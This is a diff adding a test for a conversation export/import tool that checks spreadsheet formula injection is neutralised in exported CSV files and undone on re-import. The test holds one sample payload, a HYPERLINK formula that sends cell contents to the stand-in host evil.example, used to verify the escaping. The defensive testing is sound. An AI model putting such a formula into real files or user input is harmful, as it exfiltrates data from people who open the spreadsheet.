@@ -3,6 +3,7 @@ group ids kept; a bad export saves nothing."""
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 from pathlib import Path
@@ -130,6 +131,31 @@ def test_the_topic_and_description_go_out_in_summary_csv_and_come_back(coordinat
     )
     assert (imported.topic, imported.description) == ('Fairs, "spring" edition', "Plan the **fair**.")
     assert imported.description_html == "<p>Plan the <strong>fair</strong>.</p>\n"
+
+
+def test_a_members_formula_goes_out_as_text_and_comes_back_as_written(coordinator: Any, partnership: Any) -> None:
+    conversation = services.conversation_create(
+        actor=coordinator, topic="=1+1 fairs", seeds=["One", "Two"], participants_may_add=True
+    )
+    member = MembershipFactory(partnership=partnership, is_member=True)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for help")'
+    services.statement_add(actor=member, conversation=conversation, text=formula)
+    services.statement_add(actor=member, conversation=conversation, text="'-already quoted")
+    services.vote_cast(actor=member, statement_id=conversation.statements.first().pk, vote="disagree")
+    files = polis_io.export_data(conversation).files
+    bodies = [row["comment-body"] for row in csv.DictReader(io.StringIO(files["comments.csv"]))]
+    assert "'" + formula in bodies and formula not in bodies
+    assert "''-already quoted" in bodies
+    assert not any(body.startswith(("=", "+", "-", "@", "\t", "\r")) for body in bodies)
+    assert [row["vote"] for row in csv.DictReader(io.StringIO(files["votes.csv"]))] == ["-1"]  # a number, as it was
+    assert files["summary.csv"].startswith("topic,'=1+1 fairs")
+    imported = polis_io.conversation_import(
+        actor=coordinator, topic="", uploads=[SimpleUploadedFile("export.zip", polis_io.export_zip(conversation))]
+    )
+    assert imported.topic == "=1+1 fairs"
+    assert sorted(imported.statements.values_list("text", flat=True)) == sorted(
+        conversation.statements.values_list("text", flat=True)
+    )
 
 
 def test_a_bad_export_is_refused_with_its_facts_and_nothing_is_saved(coordinator: Any) -> None:
